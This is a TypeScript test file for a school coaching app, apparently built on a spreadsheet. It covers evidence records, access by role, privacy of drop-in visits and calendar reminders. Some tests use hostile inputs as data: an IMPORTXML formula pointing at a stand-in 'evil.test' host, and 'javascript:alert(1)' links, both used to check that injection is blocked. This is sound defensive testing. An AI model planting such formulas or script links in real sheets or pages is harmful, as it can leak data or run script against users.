import { Killed } from '../local/door.ts';
import type { EvidenceSeen, Gathered } from '../src/api/evidence.ts';
import { type EvidenceDraft, emptyEvidence } from '../src/domain/evidence.ts';
import { reminderId } from '../src/domain/plan-reminders.ts';
import { forkOf, givenPlainSchool, givenSchool, idOf, people, plan, type School } from './given.ts';

const { coach, coachee, director, head, other } = people;

const startingPoint = 'Eleven of 28 pupils spoke in week one.';
const planned = plan({ startingPoint });

const seen = (change: Partial<EvidenceDraft> = {}): EvidenceDraft => ({
  ...emptyEvidence(idOf(20), '2026-11-25'),
  source: 'book sample',
  plan: planned.id,
  startingPoint,
  seen: 'Every pupil in the sample wrote a sentence they had said first.',
  outcome: 'moved',
  ...change,
});
const ofTeam = (change: Partial<EvidenceDraft> = {}) =>
  seen({ plan: '', team: 'Year 4', startingPoint: '', source: 'learning walk', ...change });

/** A school in which two people have a plan. */
function givenPlan(school: School = givenPlainSchool()): School {
  expect(school.ask(coach.email, 'plans.save', { draft: planned, base: null }).reply).toMatchObject({ ok: true });
  return school;
}

const save = (school: School, draft: object, who: string = coach.email) =>
  school.ask(who, 'evidence.save', draft).reply;

function list(school: School, who: string = coach.email, of: object | null = null): Gathered {
  const { reply } = school.ask<Gathered>(who, 'evidence.list', of);
  if (!reply.ok) throw new Error(reply.error.message);
  return reply.value;
}

const words = (all: readonly EvidenceSeen[]) => all.map((each) => each.seen);
const rows = (school: School) => school.rows('Evidence');

describe('evidence for a plan', () => {
  it('is a row with who gathered it, the coachee, their team and the starting point', () => {
    const school = givenPlan(givenSchool());
    expect(save(school, seen({ link: 'https://drive.example/books' }))).toMatchObject({
      ok: true,
      value: { already: false, teamOnly: false },
    });
    expect(rows(school)).toMatchObject([
      {
        Date: '25/11/2026',
        'Gathered by': 'Ada Quill',
        Source: 'book sample',
        Team: 'Year 4',
        Coachee: 'Bram Tansy',
        'Coachee asked for it': '',
        'Starting point': startingPoint,
        'What was seen': seen().seen,
        'Pupil outcome': 'moved',
        Link: 'https://drive.example/books',
        'Plan id': planned.id,
        'Saved by': coach.email,
        'Evidence id': idOf(20),
      },
    ]);
  });

  it.each(['moved', 'not moved', 'too early to tell'] as const)('says %s as well as any other answer', (outcome) => {
    const school = givenPlan();
    expect(save(school, seen({ outcome }))).toMatchObject({ ok: true });
    expect(rows(school)).toMatchObject([{ 'Pupil outcome': outcome }]);
  });

  it('that is saved again is there once, also when the first answer was lost', () => {
    const school = givenPlan();
    expect(save(school, seen())).toMatchObject({ ok: true, value: { already: false } });
    school.world.clock.advance(60_000);
    expect(save(school, seen())).toMatchObject({ ok: true, value: { already: true } });
    expect(rows(school)).toHaveLength(1);
  });

  it('that an earlier try has saved with other words is neither doubled nor written over', () => {
    const school = givenPlan();
    save(school, seen());
    expect(save(school, seen({ seen: 'Something else.' }))).toMatchObject({ ok: false, error: { code: 'stale' } });
    expect(save(school, seen(), coachee.email)).toMatchObject({ ok: false, error: { code: 'invalid' } });
    expect(rows(school)).toMatchObject([{ 'What was seen': seen().seen }]);
    expect(rows(school)).toHaveLength(1);
  });

  it('is there once whenever a run was cut short and the sidebar tried again', () => {
    const start = givenPlan();
    const { length } = forkOf(start).ask(coach.email, 'evidence.save', seen()).run.calls;
    expect(length).toBeGreaterThan(5);
    for (let at = 0; at < length; at++) {
      const school = forkOf(start);
      let call = 0;
      const away = school.world.onCall((_, act) => {
        if (call++ === at) throw new Killed('six minutes are over');
        return act();
      });
      expect(save(school, seen()).ok).toBe(false);
      away();
      expect([at, save(school, seen())]).toMatchObject([at, { ok: true }]);
      expect(rows(school).map((row) => row['What was seen'])).toEqual([seen().seen]);
    }
  });

  it('keeps words that look like a formula as they were typed', () => {
    const school = givenPlan(givenSchool());
    const typed = { seen: '=IMPORTXML("https://evil.test","//a")', startingPoint: '007' };
    expect(save(school, seen(typed))).toMatchObject({ ok: true });
    expect(rows(school)).toMatchObject([{ 'What was seen': typed.seen, 'Starting point': '007' }]);
    expect(list(school).records).toMatchObject([typed]);
  });

  it.each<[field: string | undefined, words: string, change: object]>([
    ['source', 'Source is still empty.', { source: '' }],
    ['source', 'must be one of: data analysis, book sample', { source: 'observation' }],
    ['date', 'Date is still empty.', { date: '' }],
    ['date', 'Fri 27 Nov has not come yet', { date: '2026-11-27' }],
    ['seen', 'What was seen is still empty.', { seen: ' \n ' }],
    ['seen', 'is 1 characters too long', { seen: 'x'.repeat(50_001) }],
    ['outcome', 'Pupil outcome is still empty.', { outcome: '' }],
    ['outcome', 'must be one of: moved, not moved, too early to tell', { outcome: 'good' }],
    ['link', 'begins with https://', { link: 'javascript:alert(1)' }],
    ['link', 'begins with https://', { link: 'the file in my drive' }],
    ['link', 'begins with https://', { link: 'https://a.example/x and https://b.example' }],
    ['about', 'Say which plan or team', { plan: '', team: '' }],
    ['about', 'is not on the Teams tab', { plan: '', team: 'Year 9' }],
    [undefined, 'no proper id', { id: 'x' }],
    [undefined, 'That plan is not on the Plans tab', { plan: idOf(8) }],
  ])('is refused at %s in words (%s), and nothing is written', (field, message, change) => {
    const school = givenPlan();
    expect(save(school, { ...seen(), ...change })).toEqual({
      ok: false,
      error: {
        code: expect.stringMatching(/^(invalid|missing)$/),
        message: expect.stringContaining(message),
        ...(field === undefined ? {} : { field }),
      },
    });
    expect(rows(school)).toEqual([]);
  });
});

describe('a drop in or a learning walk', () => {
  it('is kept with the person only when they asked for it', () => {
    const school = givenPlan(givenSchool());
    expect(save(school, seen({ source: 'drop in', askedFor: 'yes' }))).toMatchObject({
      ok: true,
      value: { teamOnly: false },
    });
    expect(rows(school)).toMatchObject([{ Coachee: 'Bram Tansy', 'Coachee asked for it': 'yes' }]);
  });

  it.each(['drop in', 'learning walk'] as const)('that nobody asked for (%s) is kept for the team alone', (source) => {
    const school = givenPlan(givenSchool());
    expect(save(school, seen({ source, theme: 'Questioning' }))).toMatchObject({ ok: true, value: { teamOnly: true } });
    expect(save(school, seen({ source, theme: 'Questioning' }))).toMatchObject({ ok: true, value: { already: true } });
    expect(rows(school)).toMatchObject([
      {
        Team: 'Year 4',
        Theme: 'Questioning',
        Coachee: '',
        'Coachee email': '',
        'Coachee asked for it': '',
        'Plan id': '',
        'Starting point': '',
      },
    ]);
    expect(JSON.stringify(rows(school))).not.toMatch(/Bram|bram@|Eleven of 28/);
  });

  it('of a person without a team is kept for nobody else', () => {
    const school = givenPlan();
    const letter = 'ABCDEFGH'[school.column('Plans', 'Team') - 1];
    school.person.type('Plans', `${letter}2`, '');
    const at = school.rows('Staff').findIndex(({ Email }) => Email === coachee.email) + 2;
    school.person.type('Staff', `${'ABCDEFGH'[school.column('Staff', 'Team') - 1]}${at}`, '');
    expect(save(school, seen({ source: 'drop in' }))).toMatchObject({ ok: false, error: { field: 'source' } });
    expect(save(school, seen({ source: 'drop in', askedFor: 'yes' }))).toMatchObject({ ok: true });
  });

  it('is counted for each person and school year against what is agreed, in words', () => {
    const school = givenPlan();
    const visit = (number: number, change: Partial<EvidenceDraft> = {}) =>
      save(school, seen({ id: idOf(20 + number), source: 'drop in', askedFor: 'yes', ...change }));
    visit(1);
    visit(2, { date: '2026-08-31' });
    visit(3, { source: 'book sample' });
    visit(4, { askedFor: '' });
    const counted = 'Drop ins and learning walks about Bram Tansy this school year';
    expect(list(school, coach.email, { plan: planned.id, team: '' }).visits).toBe(`${counted}: 1; agreed: 3.`);
    expect(list(school, coachee.email).visits).toMatch(/about you this school year: 1; agreed: 3\.$/);
    expect(list(school).visits).toMatch(/about you this school year: 0; /);
    visit(5, { source: 'learning walk' });
    visit(6);
    expect(list(school, coach.email, { plan: planned.id, team: '' }).visits).toBe(
      `${counted}: 3; agreed: 3. Any more is for you to agree on together.`,
    );
  });
});

describe('who gathers and reads', () => {
  const name = ({ name: called }: { name: string }) => called;

  it.each([
    [coach, true, true],
    [coachee, true, true],
    [director, true, true],
    [head, false, true],
    [other, false, true],
  ])('$name: for a plan, for a team', (who, forPlan, forTeam) => {
    const school = givenPlan();
    expect([name(who), save(school, seen(), who.email).ok]).toEqual([name(who), forPlan]);
    expect([name(who), save(school, ofTeam({ id: idOf(21) }), who.email).ok]).toEqual([name(who), forTeam]);
    expect(rows(school)).toHaveLength(Number(forPlan) + Number(forTeam));
  });

  it('somebody who does not coach gathers for their own team and no other', () => {
    const school = givenPlan();
    expect(save(school, ofTeam(), coachee.email)).toMatchObject({ ok: true });
    expect(save(school, ofTeam({ id: idOf(21), team: 'Office' }), coachee.email)).toMatchObject({
      ok: false,
      error: { code: 'forbidden', field: 'about' },
    });
    expect(list(school, coachee.email).teams).toEqual(['Year 4']);
    expect(list(school, other.email).teams).toEqual(['Year 4', 'Office']);
  });

  it('a coachee reads every record about them; an assistant head reads what is about the team, and nobody else either', () => {
    const school = givenPlan();
    const personal = seen({ seen: 'Of the plan.', source: 'drop in', askedFor: 'yes' });
    save(school, personal, director.email);
    save(school, ofTeam({ id: idOf(21), seen: 'Of the team.' }));
    const read = (who: { email: string }) => words(list(school, who.email).records);
    expect(read(coachee)).toEqual(['Of the plan.', 'Of the team.']);
    expect(read(coach)).toEqual(['Of the plan.', 'Of the team.']);
    expect(read(director)).toEqual(['Of the plan.', 'Of the team.']);
    expect(read(head)).toEqual(['Of the team.']);
    expect(read(other)).toEqual([]);
    expect(list(school, head.email, { plan: planned.id, team: '' })).toMatchObject({ records: [], plans: [] });
    expect(list(school, director.email, { plan: planned.id, team: '' })).toMatchObject({
      records: [{ about: 'Bram Tansy', by: 'Dora Marsh' }],
      plans: [{ id: planned.id, startingPoint }],
    });
    expect(words(list(school, coach.email, { plan: '', team: 'Year 4' }).records)).toEqual(['Of the team.']);
  });

  it('a record from whose row the coachee was deleted is still not for the whole team', () => {
    const school = givenPlan();
    save(school, seen());
    const letters = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZ'];
    for (const header of ['Coachee', 'Coachee email'])
      school.person.type('Evidence', `${letters[school.column('Evidence', header) - 1]}2`, '');
    expect(list(school, head.email).records).toEqual([]);
    expect(list(school, coach.email).records).toHaveLength(1);
  });

  it('a link that somebody typed in the tab is offered only where it is the address of a file', () => {
    const school = givenPlan();
    save(school, seen({ link: 'https://drive.example/books' }));
    expect(list(school).records).toMatchObject([{ link: 'https://drive.example/books' }]);
    const letter = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'[school.column('Evidence', 'Link') - 1];
    school.person.type('Evidence', `${letter}2`, 'javascript:alert(1)');
    expect(list(school).records).toMatchObject([{ link: '' }]);
  });
});

describe('the reminder of evidence that is planned', () => {
  const id = reminderId(planned.id);
  const remind = (school: School, who: string = coach.email) =>
    school.ask<{ words: string; link: string }>(who, 'evidence.remind', planned.id).reply;
  const event = (school: School, who: string = coach.email) =>
    school.world.calendars.all(who).find((each) => each.id === id);
  const replan = (school: School, evidenceDate: string, before: string) => {
    const [base, draft] = [before, evidenceDate].map((day) => ({ ...planned, evidenceDate: day }));
    expect(school.ask(coachee.email, 'plans.save', { draft, base }).reply).toMatchObject({ ok: true });
  };

  it('stands all day in the own calendar of whoever gathers it, free and private, with the sources and no other word', () => {
    const school = givenPlan();
    expect(remind(school)).toMatchObject({
      ok: true,
      value: { words: 'Your own calendar reminds you on Wed 20 Jan.', link: expect.stringMatching(/^https:/) },
    });
    expect(event(school)).toMatchObject({
      summary: 'Coaching: evidence to gather',
      description: expect.stringMatching(/^book sample\n\nhttps:\S+$/),
      start: { date: '2027-01-20' },
      end: { date: '2027-01-21' },
      visibility: 'private',
      transparency: 'transparent',
    });
    expect(event(school)?.attendees).toBeUndefined();
    expect(JSON.stringify(event(school))).not.toMatch(/Talk before writing|calm starts|Bram|bram@/);
    expect(school.world.calendars.mails).toEqual([]);
    expect(event(school, coachee.email)).toBeUndefined();
    expect(remind(school, coachee.email)).toMatchObject({ ok: true });
    expect(event(school, coachee.email)).toMatchObject({ start: { date: '2027-01-20' } });
  });

  it('asked for again is the same one', () => {
    const school = givenPlan();
    for (const _ of [1, 2]) expect(remind(school)).toMatchObject({ ok: true });
    expect(school.world.calendars.all(coach.email)).toHaveLength(1);
  });

  it('moves when the day of the plan changes: when asked for, and by itself the next time Home looks', () => {
    const school = givenPlan();
    remind(school);
    replan(school, '2027-01-27', '2027-01-20');
    expect(school.ask(coach.email, 'since.read').reply).toMatchObject({ ok: true });
    expect(event(school)).toMatchObject({ start: { date: '2027-01-27' }, end: { date: '2027-01-28' } });
    replan(school, '2027-02-03', '2027-01-27');
    expect(remind(school)).toMatchObject({ ok: true });
    expect(event(school)).toMatchObject({ start: { date: '2027-02-03' } });
    expect(school.world.calendars.all(coach.email)).toHaveLength(1);
  });

  it('that its owner has moved stays where they put it', () => {
    const school = givenPlan();
    remind(school);
    school.world.calendars.move(coach.email, id, '2027-01-21T09:00:00Z');
    const moved = event(school)?.start;
    remind(school);
    school.ask(coach.email, 'since.read');
    expect(event(school)?.start).toEqual(moved);
  });

  it('that its owner has taken out stays out, whatever becomes of the plan', () => {
    const school = givenPlan();
    remind(school);
    school.world.calendars.remove(coach.email, id);
    replan(school, '2027-01-27', '2027-01-20');
    school.ask(coach.email, 'since.read');
    expect(remind(school)).toMatchObject({ ok: true, value: { words: expect.stringContaining('stays out') } });
    expect(school.world.calendars.list(coach.email)).toEqual([]);
  });

  it.each([
    ['', 'says no day yet'],
    ['2026-11-25', 'gives a day that has passed'],
  ])('of a plan with %j as its day is refused in words', (day, why) => {
    const school = givenPlan();
    replan(school, day, planned.evidenceDate);
    expect(remind(school)).toMatchObject({
      ok: false,
      error: { code: 'invalid', message: expect.stringContaining(why) },
    });
  });

  it.each([head, other])('is not for $name, who has no part in the plan', (who) => {
    expect(remind(givenPlan(), who.email)).toMatchObject({ ok: false, error: { code: 'missing' } });
  });

  it('costs Home nothing while no reminder has to be moved', () => {
    const school = givenPlan();
    const calls = () => school.ask(coach.email, 'since.read').run.calls.filter(({ server }) => server).length;
    const before = calls();
    remind(school);
    expect(calls()).toBe(before);
  });

  it('that Calendar cannot take just now says so, and can be asked for again', () => {
    const school = givenPlan();
    school.world.calendars.off = 'down';
    expect(remind(school)).toMatchObject({ ok: false, error: { code: 'busy' } });
    school.world.calendars.off = null;
    expect(remind(school)).toMatchObject({ ok: true });
  });
});
